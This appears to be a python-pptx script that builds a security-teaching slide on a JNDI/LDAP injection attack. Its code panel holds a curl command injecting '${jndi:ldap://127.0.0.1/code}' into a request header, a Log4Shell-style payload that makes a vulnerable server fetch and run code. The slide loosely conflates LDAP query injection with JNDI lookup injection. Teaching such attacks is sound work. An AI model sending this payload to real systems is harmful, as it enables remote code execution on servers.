
from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, MSO_AUTO_SIZE, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt

RECT = MSO_SHAPE.RECTANGLE
MIDDLE, TOP = MSO_ANCHOR.MIDDLE, MSO_ANCHOR.TOP
NO_FIT = MSO_AUTO_SIZE.NONE
LEFT = PP_ALIGN.LEFT

BLACK = RGBColor(0x00, 0x00, 0x00)
RED = RGBColor(0xFF, 0x00, 0x00)
BLUE = RGBColor(0x44, 0x72, 0xC4)
TEAL = RGBColor(0x36, 0xAC, 0xAA)
CHARCOAL = RGBColor(0x39, 0x3A, 0x34)
ORANGE = RGBColor(0xED, 0x7D, 0x31)
PINK = RGBColor(0xE3, 0x11, 0x6C)
CODE_FILL = RGBColor(0xD6, 0xDC, 0xE5)
NOTE_FILL = RGBColor(0xDE, 0xEB, 0xF7)

SANS, MONO = "Calibri", "Noto Sans Mono"


def prose(text, size=18):
    return text, {"name": SANS, "size": Pt(size)}, BLACK


def code(text, color=PINK, size=18):
    return text, {"name": MONO, "size": Pt(size)}, color


def add_bullet(p, margin, hanging):
    pPr = p._p.get_or_add_pPr()
    pPr.set("marL", str(Inches(margin)))
    pPr.set("indent", str(-Inches(hanging)))
    etree.SubElement(pPr, qn("a:buFont")).set("typeface", "Arial")
    etree.SubElement(pPr, qn("a:buChar")).set("char", "•")


def write_paragraph(p, runs, **formats):
    settings = {"alignment": LEFT, "space_before": Pt(0), **formats}
    for key, value in settings.items():
        setattr(p, key, value)
    for text, font, color in runs:
        r = p.add_run()
        r.text = text
        for key, value in font.items():
            setattr(r.font, key, value)
        r.font.color.rgb = color


def place(sp, left, top, width, height, anchor):
    sp.left, sp.top = Inches(left), Inches(top)
    sp.width, sp.height = Inches(width), Inches(height)
    tf = sp.text_frame
    tf.word_wrap = True
    tf.auto_size = NO_FIT
    tf.vertical_anchor = anchor
    return tf


def add_panel(slide, left, top, width, height, fill):
    sp = slide.shapes.add_shape(RECT, 0, 0, 0, 0)
    sp.shadow.inherit = False
    sp.fill.solid()
    sp.fill.fore_color.rgb = fill
    sp.line.fill.background()
    return place(sp, left, top, width, height, TOP)


def main():
    prs = Presentation()
    prs.slide_width, prs.slide_height = Inches(13.33), Inches(7.5)
    slide = prs.slides.add_slide(prs.slide_layouts[1])

    # Title
    tf = place(slide.shapes.title, 0.92, 0.4, 11.5, 1.45, MIDDLE)
    write_paragraph(tf.paragraphs[0],
                    [prose("A specific input using an LDAP server", 44)],
                    line_spacing=0.9)

    # How the attack works
    tf = place(slide.placeholders[1], 0.92, 2, 11.5, 1.67, TOP)
    p = tf.paragraphs[0]
    add_bullet(p, 0.25, 0.25)
    write_paragraph(p, [
        prose("Attackers manipulate user inputs ", 28),
        code("‘’", RED, 20),
        prose(" to inject malicious LDAP queries that are sent to an LDAP server.", 28),
    ], line_spacing=0.9)
    p = tf.add_paragraph()
    add_bullet(p, 0.75, 0.25)
    write_paragraph(p, [
        prose("These queries can modify, disclose, or delete data in an LDAP directory.", 24),
    ], level=1, line_spacing=0.9, space_before=Pt(5))

    # Command
    tf = add_panel(slide, 1.05, 3.92, 11.02, 0.44, CODE_FILL)
    write_paragraph(tf.paragraphs[0], [
        code("curl ", BLUE),
        code("127.0.0.1:8080", TEAL),
        code(" -H ", CHARCOAL),
        code("'", RED, 20),
        code("X-Api-Version", ORANGE),
        code(": ${jndi:ldap://127.0.0.1/code}"),
        code("'", RED, 20),
    ])

    # Explanation of the command
    tf = add_panel(slide, 1, 4.87, 11.12, 1.62, NOTE_FILL)
    explanations = [
        [code("jndi:ldap://127.0.0.1/code "),
         prose("is a string that resembles a JNDI (Java Naming and Directory "
               "Interface) URL pointing to an LDAP server at 127.0.0.1 (which is "
               "the local machine) with a path of "),
         code("/code"),
         prose(".")],
        [code("${} "),
         prose("indicates variable interpolation,. It's trying to trick the "
               "victim server into interpreting "),
         code("${jndi:ldap://127.0.0.1/code} "),
         prose("as code to execute")],
    ]
    for i, runs in enumerate(explanations):
        p = tf.add_paragraph() if i else tf.paragraphs[0]
        add_bullet(p, 0.38, 0.38)
        write_paragraph(p, runs)

    prs.save("out.pptx")


if __name__ == "__main__":
    main()
